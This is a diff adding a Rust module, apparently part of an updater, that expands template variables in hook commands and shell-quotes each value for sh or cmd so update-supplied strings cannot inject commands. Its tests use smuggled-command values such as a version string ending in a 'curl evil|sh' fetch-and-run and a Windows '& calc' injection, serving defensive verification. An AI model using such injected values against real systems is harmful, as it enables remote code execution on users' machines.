@@ -0,0 +1,153 @@
+//! 模板变量：钩子命令与部分路径参数中的 `{name}` 在运行时展开，配置文件不必写死各台机器上的路径。
+//! 可用的变量为 `{output}`、`{output_old}`、`{app}`、`{version}`、`{old_version}`、`{staging}`、`{temp}`，
+//! 未知或尚无值的变量原样保留
+
+use crate::hooks::HookContext;
+use std::io;
+use std::path::{Path, PathBuf};
+
+/// 把 text 中的 `{name}`（name 由小写字母与下划线组成）替换为 lookup 返回的值
+pub fn expand(text: &str, mut lookup: impl FnMut(&str) -> Option<String>) -> String {
+    let mut result = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(start) = rest.find('{') {
+        result.push_str(&rest[..start]);
+        let after = &rest[start + 1..];
+        let value = after.find('}').and_then(|end| {
+            let name = &after[..end];
+            let valid =
+                !name.is_empty() && name.bytes().all(|b| b.is_ascii_lowercase() || b == b'_');
+            valid.then(|| lookup(name)).flatten().map(|v| (v, end))
+        });
+        match value {
+            Some((value, end)) => {
+                result.push_str(&value);
+                rest = &after[end + 1..];
+            }
+            None => {
+                result.push('{');
+                rest = after;
+            }
+        }
+    }
+    result.push_str(rest);
+    result
+}
+
+/// 展开交给 shell 执行的命令：每个值按 [`shell_quote`] 加引号，
+/// 来自更新源的版本号或含空格的路径都只作为一个参数，不会被 shell 解释
+pub fn expand_command(text: &str, lookup: impl Fn(&str) -> Option<String>) -> io::Result<String> {
+    let mut error = None;
+    let command = expand(text, |name| {
+        let value = lookup(name)?;
+        shell_quote(&value).map_err(|e| error = Some(e)).ok()
+    });
+    match error {
+        Some(e) => Err(e),
+        None => Ok(command),
+    }
+}
+
+/// 按执行钩子的 shell 的规则给 value 加引号：sh 使用单引号，任何值都可以表示；
+/// cmd 使用双引号，其中无法转义的 `"`、`%` 与换行直接拒绝
+pub fn shell_quote(value: &str) -> io::Result<String> {
+    if cfg!(windows) {
+        if value.contains(['"', '%', '\r', '\n']) {
+            return Err(io::Error::new(
+                io::ErrorKind::InvalidInput,
+                format!(
+                    "Refusing to pass {:?} to cmd: it contains \", % or a line break",
+                    value
+                ),
+            ));
+        }
+        Ok(format!("\"{}\"", value))
+    } else {
+        Ok(format!("'{}'", value.replace('\'', "'\\''")))
+    }
+}
+
+/// 更新前 output 的备份位置 `<output>_old`
+pub fn output_old(output: &Path) -> PathBuf {
+    let mut path = output.as_os_str().to_owned();
+    path.push("_old");
+    PathBuf::from(path)
+}
+
+/// 与路径无关的变量
+pub fn common_var(name: &str) -> Option<String> {
+    match name {
+        "temp" => Some(std::env::temp_dir().to_string_lossy().into_owned()),
+        _ => None,
+    }
+}
+
+/// 钩子执行时可用的变量
+pub fn hook_var(ctx: &HookContext, name: &str) -> Option<String> {
+    let path = |p: &Path| p.to_string_lossy().into_owned();
+    match name {
+        "output" => Some(path(ctx.output)),
+        "output_old" => Some(path(&output_old(ctx.output))),
+        "app" => Some(path(ctx.app)),
+        "staging" => ctx.staging.map(path),
+        "version" => ctx.version.map(str::to_string),
+        "old_version" => ctx.old_version.map(str::to_string),
+        _ => common_var(name),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn expand_replaces_known_names() {
+        let lookup = |name: &str| match name {
+            "output" => Some("/opt/app".to_string()),
+            "old_version" => Some("1.0".to_string()),
+            "empty" => Some(String::new()),
+            _ => None,
+        };
+        for (text, expected) in [
+            ("{output}/x", "/opt/app/x"),
+            ("v{old_version}-{old_version}{empty}", "v1.0-1.0"),
+            ("{unknown} {Output} {} {a b}", "{unknown} {Output} {} {a b}"),
+            ("{{output}}", "{/opt/app}"),
+            ("{output", "{output"),
+            ("}{output}{", "}/opt/app{"),
+            ("无{output}", "无/opt/app"),
+        ] {
+            assert_eq!(expand(text, lookup), expected, "{}", text);
+        }
+    }
+
+    #[test]
+    #[cfg(not(windows))]
+    fn expand_command_quotes_values() {
+        let lookup = |name: &str| match name {
+            "version" => Some("1.0; curl evil|sh".to_string()),
+            "app" => Some("/opt/My App/it's".to_string()),
+            _ => None,
+        };
+        assert_eq!(
+            expand_command("run {app} {version} {unknown}", lookup).unwrap(),
+            "run '/opt/My App/it'\\''s' '1.0; curl evil|sh' {unknown}"
+        );
+    }
+
+    #[test]
+    #[cfg(windows)]
+    fn expand_command_quotes_values() {
+        let lookup = |name: &str| match name {
+            "app" => Some(r"C:\Program Files\MyApp.exe".to_string()),
+            "version" => Some("1.0 & calc".to_string()),
+            "bad" => Some("%PATH%".to_string()),
+            _ => None,
+        };
+        assert_eq!(
+            expand_command("run {app} {version}", lookup).unwrap(),
+            r#"run "C:\Program Files\MyApp.exe" "1.0 & calc""#
+        );
+        assert!(expand_command("run {bad}", lookup).is_err());
+    }
+}